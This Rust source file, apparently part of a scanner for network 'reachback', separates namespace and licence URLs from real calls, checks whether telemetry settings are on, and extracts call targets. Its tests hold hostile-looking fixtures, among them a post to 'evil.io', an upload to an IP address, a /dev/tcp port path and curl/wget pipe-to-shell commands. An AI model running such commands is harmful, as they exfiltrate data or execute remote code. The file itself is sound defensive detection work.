//! Where a reachback match sits and what it switches: a URL that names a namespace or a
//! licence is not a network call; a setting switched off is not reachback; the host a
//! call or a download reaches is read from its first argument or its URL.

/// How far before a match the licence context is looked for, in bytes (within the 256
/// bytes a streamed chunk keeps before its region, so chunked and whole scans agree).
const LICENSE_LOOKBACK: usize = 240;

/// Whether the URL after `ctx` (the lower-cased text before it on its line) is the value of
/// a name, not an address: the key or attribute right before it is `xmlns`/`xmlns:x`,
/// `$schema`, `$id` or a `…namespace`, or it lies inside a `schemaLocation` attribute or a
/// DOCTYPE declaration. The word must be where the value belongs: the same word elsewhere
/// on the line (`NAMESPACE=prod HF_ENDPOINT=https://…`) does not make a URL harmless.
pub fn names_a_namespace(ctx: &str) -> bool {
    let tail = ctx
        .trim_end_matches(|c: char| c.is_ascii_whitespace() || matches!(c, '"' | '\'' | '=' | ':'));
    let key = tail
        .rsplit(|c: char| c.is_ascii_whitespace() || matches!(c, '<' | '{' | ',' | '"' | '\''))
        .next()
        .unwrap_or("");
    if key == "xmlns"
        || key.starts_with("xmlns:")
        || key == "$schema"
        || key == "$id"
        || key.ends_with("namespace")
    {
        return true;
    }
    // inside an open `schemaLocation="ns url ns url"` attribute
    if let Some(i) = rfind(ctx, Word::SchemaLocation) {
        let after = &ctx[i + "schemalocation=".len()..];
        if let Some(q) = after.chars().next().filter(|c| matches!(c, '"' | '\'')) {
            if !after[1..].contains(q) {
                return true;
            }
        }
    }
    // inside an open `<!DOCTYPE … "url">` declaration
    rfind(ctx, Word::Doctype).is_some_and(|i| !ctx[i..].contains('>'))
}

/// The words [`names_a_namespace`] looks for.
#[derive(Clone, Copy)]
enum Word {
    SchemaLocation,
    Doctype,
}

/// Where the last `word` in `ctx` begins (a byte offset, as `str::rfind` gives), with
/// searchers built once: this runs for every URL candidate.
fn rfind(ctx: &str, word: Word) -> Option<usize> {
    use memchr::memmem::FinderRev;
    static FINDERS: std::sync::OnceLock<[FinderRev<'static>; 2]> = std::sync::OnceLock::new();
    let f = FINDERS.get_or_init(|| {
        [
            FinderRev::new(b"schemalocation="),
            FinderRev::new(b"<!doctype"),
        ]
    });
    f[word as usize].rfind(ctx.as_bytes())
}

/// Extensions of files that run: a "licence" with one of these is code.
const CODE_EXTENSIONS: &[&str] = &[
    "py", "pyw", "js", "mjs", "cjs", "ts", "sh", "bash", "zsh", "ps1", "bat", "cmd", "rb", "pl",
    "php", "go", "rs", "java", "kt", "c", "h", "cc", "cpp", "cs", "lua", "r", "json", "yaml",
    "yml", "toml", "cfg", "ini", "conf", "env", "ipynb",
];

/// Whether the file at `path` (nesting joined by `!`) is a licence or notice file:
/// `LICENSE`, `LICENCE`, `COPYING`, `NOTICE`, `COPYRIGHT`, alone or with a suffix after
/// `.` or `-` (`LICENSE.txt`, `LICENSE-APACHE`, `COPYING.LESSER`), any case; never a
/// file that runs or configures (`license.py`, `NOTICE.yaml`).
pub fn is_license_file(path: &str) -> bool {
    let name = path.rsplit(['/', '!', '\\']).next().unwrap_or(path);
    let upper = name.to_ascii_uppercase();
    let ext = name.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase());
    if ext.is_some_and(|e| CODE_EXTENSIONS.contains(&e.as_str())) {
        return false;
    }
    [
        "LICENSE",
        "LICENCE",
        "COPYING",
        "NOTICE",
        "COPYRIGHT",
        "UNLICENSE",
    ]
    .iter()
    .any(|stem| {
        upper
            .strip_prefix(stem)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with(['.', '-']))
    })
}

/// Extensions of program source (and compiled Python): there a host is a string literal,
/// and an unquoted `host = self.host` is an expression.
const SOURCE_EXTENSIONS: &[&str] = &[
    "py", "pyi", "pyw", "pyx", "pxd", "pyc", "ipynb", "js", "mjs", "cjs", "jsx", "ts", "tsx",
    "java", "kt", "scala", "go", "rs", "rb", "c", "h", "cc", "cpp", "hpp", "cs", "php", "lua", "r",
    "swift", "pl",
];

/// Whether the file at `path` is program source by its extension.
pub fn is_source_code(path: &str) -> bool {
    let name = path.rsplit(['/', '!', '\\']).next().unwrap_or(path);
    name.rsplit_once('.')
        .is_some_and(|(_, e)| SOURCE_EXTENSIONS.contains(&e.to_ascii_lowercase().as_str()))
}

/// Whether `t` holds a word that marks licence text (`licen…`, `spdx-`, `copyright`), any
/// case. Bytes, one automaton: this runs for every URL to an outside domain.
fn mentions_license(t: &[u8]) -> bool {
    static WORDS: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> =
        std::sync::OnceLock::new();
    const LIST: [&str; 3] = ["licen", "spdx-", "copyright"];
    let ac = WORDS.get_or_init(|| {
        aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(LIST)
            .ok()
    });
    match ac {
        Some(ac) => ac.is_match(t),
        // (built from constants, so not reached; a plain search if it were)
        None => LIST.iter().any(|w| {
            t.windows(w.len())
                .any(|x| x.eq_ignore_ascii_case(w.as_bytes()))
        }),
    }
}

/// Whether a URL starting at `buf[start]` sits in a licence header or notice: its line
/// (before it) mentions a licence, SPDX or copyright, or its line holds nothing before it
/// but comment markers and the text just above does (`# You may obtain a copy of the
/// License at` / `#     http://…`). Comment and prose only: such a line runs nothing.
pub fn in_license_text(buf: &[u8], start: usize) -> bool {
    let near = start.saturating_sub(LICENSE_LOOKBACK);
    let before = &buf[near..start];
    let (above, line) = match memchr::memrchr(b'\n', before) {
        Some(p) => (&before[..p], &before[p + 1..]),
        None => (&before[..0], before),
    };
    if mentions_license(line) {
        return true;
    }
    let only_markers = line.iter().all(|c| {
        c.is_ascii_whitespace()
            || matches!(
                c,
                b'#' | b'/' | b'*' | b';' | b'-' | b'%' | b'!' | b'<' | b'"' | b'\'' | b'.'
            )
    });
    only_markers && mentions_license(above)
}

/// For a `name = value` setting, or a block `name:` whose `enabled:` key follows: is it
/// switched on? The value is what follows the last `:` or `=`. A name that negates
/// (`disable`, `opt_out`, `do_not_track`, `no_`) is on when its value is falsy.
pub fn setting_on(m: &[u8]) -> bool {
    let t = String::from_utf8_lossy(m).to_ascii_lowercase();
    let (Some(first), Some(last)) = (t.find([':', '=']), t.rfind([':', '='])) else {
        return false;
    };
    let (name, value) = (&t[..first], &t[last + 1..]);
    let value = value.trim_matches(|c: char| {
        c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '{' | '}' | ',')
    });
    let negated = ["disable", "opt_out", "optout", "do_not", "no_"]
        .iter()
        .any(|w| name.contains(w));
    let truthy = ["true", "yes", "on", "1", "enabled", "enable"].contains(&value);
    let falsy = ["false", "no", "off", "0", "disabled", "disable"].contains(&value);
    if negated {
        falsy
    } else {
        truthy
    }
}

/// The authority a call or download reaches, if the code names it literally: the first URL
/// in `matched` (`curl -fsSL https://host/x | sh`), a `/dev/tcp/HOST/PORT` path, else the
/// first string argument after the call's `(` in `after` (`requests.get("http://h/")`,
/// `socket.create_connection(("h", 80))`, `HTTPConnection("h:8080")`). `None` when the
/// target is a variable or an expression.
pub fn call_target<'a>(matched: &'a [u8], after: &'a [u8]) -> Option<&'a [u8]> {
    if let Some(p) = memchr::memmem::find(matched, b"://") {
        return Some(authority(&matched[p + 3..]));
    }
    for dev in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
        if let Some(p) = memchr::memmem::find(matched, dev) {
            let rest = &matched[p + dev.len()..];
            let end = rest.iter().position(|&c| c == b'/').unwrap_or(rest.len());
            return Some(&rest[..end]);
        }
    }
    if !matched.ends_with(b"(") {
        return None;
    }
    let lit = first_string_arg(after)?;
    Some(match memchr::memmem::find(lit, b"://") {
        Some(p) => authority(&lit[p + 3..]),
        None => authority(lit),
    })
}

/// The authority at the start of `s` (up to the path, query, fragment or a delimiter).
fn authority(s: &[u8]) -> &[u8] {
    let end = s
        .iter()
        .position(|&c| {
            c.is_ascii_whitespace()
                || matches!(
                    c,
                    b'/' | b'?' | b'#' | b'"' | b'\'' | b'`' | b'\\' | b'|' | b'<'
                )
        })
        .unwrap_or(s.len());
    &s[..end]
}

/// The text of a string literal that is the first argument of a call, after its `(`:
/// `"…"` or `'…'`, with an optional Python prefix (`f`, `r`, `b`, `u`), an optional
/// keyword (`url=`, `host=`) and an optional tuple `(` (`(("h", 80))`).
fn first_string_arg(s: &[u8]) -> Option<&[u8]> {
    let mut i = 0;
    let skip_ws = |i: &mut usize| {
        while s.get(*i).is_some_and(|c| c.is_ascii_whitespace()) {
            *i += 1;
        }
    };
    skip_ws(&mut i);
    if s.get(i) == Some(&b'(') {
        i += 1;
        skip_ws(&mut i);
    }
    // a keyword argument: `url=`, `host =`
    let word = s[i..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    if word > 2 {
        let mut j = i + word;
        skip_ws(&mut j);
        if s.get(j) == Some(&b'=') && s.get(j + 1) != Some(&b'=') {
            i = j + 1;
            skip_ws(&mut i);
        }
    }
    let prefix = s[i..]
        .iter()
        .take(2)
        .take_while(|c| b"fFrRbBuU".contains(c))
        .count();
    let q = *s.get(i + prefix)?;
    if q != b'"' && q != b'\'' {
        return None;
    }
    let body = &s[i + prefix + 1..];
    let end = body.iter().position(|&c| c == q || c == b'\n')?;
    (body[end] == q).then_some(&body[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn namespaces_are_names() {
        for ctx in [
            "<a xmlns:x=\"",
            "\"$schema\": \"",
            "<xs:import namespace=\"",
            "targetnamespace = '",
            "<x xsi:schemalocation=\"urn:a http://a.b/a.xsd urn:b ",
            "<!doctype html public \"-//w3c//dtd xhtml 1.0//en\" \"",
        ] {
            assert!(names_a_namespace(ctx), "{ctx}");
        }
        for ctx in [
            "export namespace=prod hf_endpoint=",
            "xmlns=1 url = \"",
            "<x schemalocation=\"a\"/> curl ",
            "<!doctype html> <script src=\"",
        ] {
            assert!(!names_a_namespace(ctx), "{ctx}");
        }
    }

    #[test]
    fn license_files_by_name() {
        for p in [
            "LICENSE",
            "pkg/LICENSE.txt",
            "a.zip!x/COPYING.LESSER",
            "NOTICE",
            "licence.md",
            "LICENSE-APACHE",
            "third_party/COPYRIGHT",
        ] {
            assert!(is_license_file(p), "{p}");
        }
        for p in [
            "license_check.py",
            "src/licenses.rs",
            "NOTICES_parser.py",
            "x/LICENSEE",
            "license.py",
            "NOTICE.yaml",
            "LICENSE-check.sh",
        ] {
            assert!(!is_license_file(p), "{p}");
        }
    }

    #[test]
    fn source_files_by_extension() {
        assert!(is_source_code("a/b.py") && is_source_code("x.zip!m.TS"));
        assert!(!is_source_code("config.yaml") && !is_source_code(".env") && !is_source_code("py"));
    }

    #[test]
    fn license_headers() {
        let apache = b"# Licensed under the Apache License, Version 2.0 (the \"License\");\n\
# You may obtain a copy of the License at\n#\n#     http://www.apache.org/licenses/LICENSE-2.0\n";
        let at = apache.len() - "http://www.apache.org/licenses/LICENSE-2.0\n".len();
        assert!(in_license_text(apache, at));
        let spdx = b"// SPDX-License-Identifier: MIT see https://opensource.org/licenses/MIT";
        let at = spdx.len() - "https://opensource.org/licenses/MIT".len();
        assert!(in_license_text(spdx, at));
        let copyright = b" * Copyright (c) 2024 Vendor Inc. <https://vendor.io>";
        assert!(in_license_text(copyright, copyright.len() - 18));
        // code after a licence comment is not licence text
        let code = b"# Licensed under MIT\nrequests.post(\"https://evil.io/x\")";
        assert!(!in_license_text(code, code.len() - 18));
        let plain = b"# see the docs at\n#   https://vendor.io/docs";
        assert!(!in_license_text(plain, plain.len() - 20));
    }

    #[test]
    fn settings_on_and_off() {
        for on in [
            &b"anonymized_telemetry: true"[..],
            b"HF_HUB_DISABLE_TELEMETRY=0",
            b"DO_NOT_TRACK=0",
            b"telemetry:\n  enabled: true",
            b"\"telemetry\": {\"enabled\": true",
            b"gather_usage_stats = yes",
        ] {
            assert!(setting_on(on), "{}", String::from_utf8_lossy(on));
        }
        for off in [
            &b"anonymized_telemetry: false"[..],
            b"HF_HUB_DISABLE_TELEMETRY=1",
            b"DO_NOT_TRACK=1",
            b"telemetry:\n  enabled: false",
            b"\"telemetry\": {\"enabled\": false",
            b"telemetry_endpoint",
        ] {
            assert!(!setting_on(off), "{}", String::from_utf8_lossy(off));
        }
    }

    #[test]
    fn call_targets() {
        let t = |m: &str, a: &str| {
            call_target(m.as_bytes(), a.as_bytes()).map(|x| String::from_utf8_lossy(x).into_owned())
        };
        assert_eq!(
            t("requests.post(", "\"http://8.8.8.8:8000/upload\")"),
            Some("8.8.8.8:8000".into())
        );
        assert_eq!(
            t("requests.get(", " url='https://u:p@h.io/x', timeout=3)"),
            Some("u:p@h.io".into())
        );
        assert_eq!(
            t("socket.create_connection(", "(\"127.0.0.1\", 80))"),
            Some("127.0.0.1".into())
        );
        assert_eq!(
            t("HTTPConnection(", "'localhost:8080')"),
            Some("localhost:8080".into())
        );
        assert_eq!(
            t("httpx.get(", "f\"http://{host}/x\")"),
            Some("{host}".into())
        );
        assert_eq!(t("requests.get(", "url)"), None);
        assert_eq!(t("requests.get(", "\"http://\" + host)"), Some("".into()));
        assert_eq!(t("requests.get(", "\"unterminated\n\")"), None);
        assert_eq!(
            t("curl -fsSL https://sh.rustup.rs | sh", ""),
            Some("sh.rustup.rs".into())
        );
        assert_eq!(t("/dev/tcp/127.0.0.1/4444", ""), Some("127.0.0.1".into()));
        assert_eq!(t("wget -qO- x | sh", ""), None);
    }
}
